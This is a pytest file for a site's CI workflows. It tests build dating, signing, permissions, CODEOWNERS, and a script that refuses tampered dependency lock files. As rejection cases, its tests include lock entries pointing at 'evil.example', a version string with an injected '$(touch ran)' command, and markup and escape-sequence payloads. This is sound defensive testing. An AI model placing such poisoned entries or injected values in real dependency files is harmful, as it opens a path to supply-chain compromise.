"""The workflows that date, sign and rebuild the site and renew the lock: who may do what, and what their scripts do."""

import os
import re
import subprocess

import pytest
import yaml

from explainer.published.listing import INFO, SUMS
from support.code_host import Host, needs_jq
from support.git import git
from support.paths import ROOT
from support.published import HASH, LOCK, write

WORKFLOWS = ROOT / ".github/workflows"


def steps(name, job):
    return yaml.safe_load((WORKFLOWS / f"{name}.yml").read_text("utf-8"))["jobs"][job]["steps"]


BUILDS = re.compile(r"make (?:\w+ )*(?:site|takeaway|sbom|buildinfo)\b|explainer takeaway")


def jobs_that_build():
    for path in sorted(WORKFLOWS.glob("*.yml")):
        for name, job in yaml.safe_load(path.read_text("utf-8"))["jobs"].items():
            if any(BUILDS.search(step.get("run", "")) for step in job["steps"]):
                yield path.stem, name


def test_where_sites_are_built():
    assert {("publish", "build"), ("check", "preview")} <= set(jobs_that_build())


@pytest.mark.parametrize(("workflow", "job"), list(jobs_that_build()))
def test_what_is_built_is_dated_by_its_commit(workflow, job, tmp_path):
    runs = [step.get("run", "") for step in steps(workflow, job)]
    [dating] = [number for number, run in enumerate(runs) if "SOURCE_DATE_EPOCH" in run]
    assert dating < min(number for number, run in enumerate(runs) if BUILDS.search(run))
    assert steps(workflow, job)[0]["with"]["fetch-depth"] == 0
    git(tmp_path, "init", "--quiet")
    write(tmp_path, {"a": "a"})
    git(tmp_path, "add", "a")
    git(tmp_path, "commit", "--quiet", "--message=One")
    environment = os.environ | {"GITHUB_ENV": str(tmp_path / "env")}
    subprocess.run(["bash", "-e", "-c", runs[dating]], cwd=tmp_path, env=environment, check=True)
    assert (tmp_path / "env").read_text() == f"SOURCE_DATE_EPOCH={git(tmp_path, 'log', '-1', '--format=%ct').strip()}\n"


def test_the_list_is_the_last_thing_before_publishing():
    runs = [step.get("run", step.get("uses", "")) for step in steps("publish", "build")]
    assert runs[-2].split("\n")[-2:] == ["make buildinfo", ""] and runs[-1].startswith("actions/upload-pages-artifact@")


def test_what_signs_builds_nothing_and_nothing_unsigned_goes_online(tmp_path):
    jobs = yaml.safe_load((WORKFLOWS / "publish.yml").read_text("utf-8"))["jobs"]
    assert "sign" in jobs["deploy"]["needs"]
    assert "id-token" not in jobs["build"]["permissions"]
    assert not any(re.search(r"make|pip|python", step.get("run", "")) for step in jobs["sign"]["steps"])
    # The archive as the action packs it.
    write(
        tmp_path,
        {
            f"site/{name}": name
            for name in (INFO, SUMS, "index.html", *(f"take-away/x.{end}" for end in ("epub", "pdf", "zip")))
        },
    )
    (tmp_path / "published").mkdir()
    subprocess.run(["tar", "--directory", "site", "-cf", "published/artifact.tar", "."], cwd=tmp_path, check=True)
    [unpack] = [step["run"] for step in jobs["sign"]["steps"] if "run" in step]
    subprocess.run(["bash", "-e", "-c", unpack], cwd=tmp_path, check=True)
    signed = jobs["sign"]["steps"][-1]["with"]["subject-path"].split()
    found = {path.name for pattern in signed for path in tmp_path.glob(pattern)}
    assert found == {"artifact.tar", INFO, SUMS, "x.epub", "x.pdf", "x.zip"}


def test_the_rebuilding_is_done_elsewhere_and_may_write_nothing():
    rebuild = yaml.safe_load((WORKFLOWS / "rebuild.yml").read_text("utf-8"))
    publish = yaml.safe_load((WORKFLOWS / "publish.yml").read_text("utf-8"))
    assert "schedule" in rebuild[True]
    assert rebuild["jobs"]["rebuild"]["runs-on"] != publish["jobs"]["build"]["runs-on"]

    def python(job):
        return next(step["with"]["python-version"] for step in job["steps"] if "setup-python" in step.get("uses", ""))

    assert python(rebuild["jobs"]["rebuild"]) != python(publish["jobs"]["build"])
    assert set(rebuild["jobs"]["rebuild"]["permissions"].values()) == {"read"}
    assert rebuild["jobs"]["report"]["permissions"] == {"contents": "read", "issues": "write"}
    assert not any(re.search(r"make|pip|python", step.get("run", "")) for step in rebuild["jobs"]["report"]["steps"])


def test_what_resolves_packages_may_not_write_and_what_writes_installs_none():
    jobs = yaml.safe_load((WORKFLOWS / "dependencies.yml").read_text("utf-8"))["jobs"]
    for job in jobs.values():
        runs = " ".join(step.get("run", "") + step.get("uses", "") for step in job["steps"])
        installs = re.search(r"make |pip |setup-python", runs)
        assert not installs or "write" not in job["permissions"].values(), runs
        assert "make lock" not in runs or re.search(r'--exclude-newer "\d+ days"', runs), "releases wait for some days"
    assert (
        next(step for step in jobs["propose"]["steps"] if "create-pull-request" in step.get("uses", ""))["with"][
            "add-paths"
        ]
        == "requirements*.txt"
    )


def take(tmp_path, files):
    """Hand ``files`` over as the resolving job does; return how it ended, and what stands in the tree."""
    tree = tmp_path / "tree"
    write(tree, {"requirements.txt": "old", "requirements-bench.txt": "old"})
    write(tree / "build/lock", files)
    done = subprocess.run([ROOT / ".github/scripts/take-lock", "build/lock"], cwd=tree, capture_output=True, text=True)
    return done, {path.name: path.read_text() for path in tree.iterdir() if path.is_file()}


BENCH = {"requirements-bench.txt": LOCK}


def test_the_real_locks_are_taken_over(tmp_path):
    files = {name: (ROOT / name).read_text() for name in ("requirements.txt", "requirements-bench.txt")}
    done, tree = take(tmp_path, files)
    assert (done.returncode, tree) == (0, files), done.stderr


@pytest.mark.parametrize(
    "text",
    [
        "", "\n", "mkdocs==1.6.1\n", LOCK.replace("==", ">="), "--index-url https://evil.example/\n" + LOCK, LOCK + "-e .\n",
        LOCK + "-r other.txt\n", LOCK + "x @ https://evil.example/x.whl\n", LOCK + f"x @ https://evil.example/x.whl \\\n    --hash=sha256:{HASH}\n",
        LOCK.replace(HASH, HASH[1:]), LOCK.replace("sha256", "md5"), LOCK.replace("\\", "--index-url=https://evil.example \\"),
        LOCK.rstrip("\n") + " \\\n", LOCK.rstrip("\n") + " \\\n    --index-url=https://evil.example\n", LOCK + "# note\n", LOCK + "\x00",
        LOCK.replace("\n", "\r\n"), LOCK + "./wheel.whl\n", LOCK.replace("1.6.1", "1.6.1 ; $(touch ran)"), LOCK * 30_000,
    ],
)  # fmt: skip
def test_what_is_no_lock_is_not_taken_over(tmp_path, text):
    for files in ({"requirements.txt": text, **BENCH}, {"requirements.txt": LOCK, "requirements-bench.txt": text}):
        done, tree = take(tmp_path, files)
        assert done.returncode == 1 and "The lock is refused" in done.stderr
        assert set(tree.values()) == {"old"}, "neither is taken over where one is refused"


@pytest.mark.parametrize("more", ["Makefile", ".github/workflows/x.yml", "requirements-more.txt", None])
def test_nothing_comes_with_a_lock(tmp_path, more):
    done, tree = take(tmp_path, {"requirements.txt": LOCK, **(BENCH | {more: "x"} if more else {})})
    assert done.returncode == 1 and set(tree.values()) == {"old"}


def test_a_link_is_no_lock(tmp_path):
    write(tmp_path, {"elsewhere.txt": LOCK, "tree/build/lock/requirements.txt": LOCK})
    (tmp_path / "tree/build/lock/requirements-bench.txt").symlink_to(tmp_path / "elsewhere.txt")
    done, tree = take(tmp_path, {})
    assert done.returncode == 1 and set(tree.values()) == {"old"}


@needs_jq
def test_one_issue_says_what_differs_and_closes_when_nothing_does(tmp_path):
    host = Host(tmp_path)
    said = tmp_path / "rebuild.txt"

    def report(code, text, check=True):
        said.write_text(text)
        return host.run("report-rebuild", said, check=check, CODE=str(code), RUN_URL="https://example.org/runs/1")

    report(0, "")
    assert host.world["issues"] == []
    report(1, "- index.html differs\n")
    report(1, "- @everybody\n```\n<img src=x>\n\x1b[2J\n" + "- long\n" * 5000)
    [issue] = host.world["issues"]
    assert issue["state"] == "open" and "index.html" not in issue["body"] and len(issue["body"]) < 65_000
    head, *body = issue["body"].split("    - @everybody\n")
    assert body and all(line.startswith("    ") and line.isprintable() for line in body[0].splitlines())
    assert "https://example.org/runs/1" in head
    failed = report(2, "::error::no network\n", check=False)
    assert failed.returncode == 1 and host.world["issues"] == [issue], "nothing was found out"
    assert not re.search(r"^\s*::", failed.stdout + failed.stderr, re.MULTILINE)
    report(0, "")
    assert [one["state"] for one in host.world["issues"]] == ["closed"]


# The project's own


def test_owners_are_asked_for_what_checks_builds_and_publishes():
    lines = [
        line.split()
        for line in (ROOT / ".github/CODEOWNERS").read_text("utf-8").splitlines()
        if line and line[0] != "#"
    ]
    paths = {path for path, *_ in lines}
    assert {
        "/hooks/",
        "/.github/",
        "/overrides/",
        "/mkdocs.yml",
        "/Makefile",
        "/requirements.txt",
        "/pyproject.toml",
    } <= paths
    assert all((ROOT / path.strip("/")).exists() for path in paths)
    owned = [owners for _, *owners in lines]
    assert all(owned) or not any(owned), "either every path has an owner or none"
    assert all(re.fullmatch(r"@[\w-]+(/[\w-]+)?", owner) for owners in owned for owner in owners)


def test_a_fork_names_its_owners_as_the_file_says(tmp_path):
    text = (ROOT / ".github/CODEOWNERS").read_text("utf-8")
    [command] = re.findall(r"^# +(sed .*)$", text, re.MULTILINE)
    write(tmp_path, {".github/CODEOWNERS": text})
    subprocess.run(["bash", "-c", command], cwd=tmp_path, check=True)
    lines = [line for line in (tmp_path / ".github/CODEOWNERS").read_text().splitlines() if line and line[0] != "#"]
    assert lines and all(line.endswith(" @your-organisation/your-team") for line in lines)
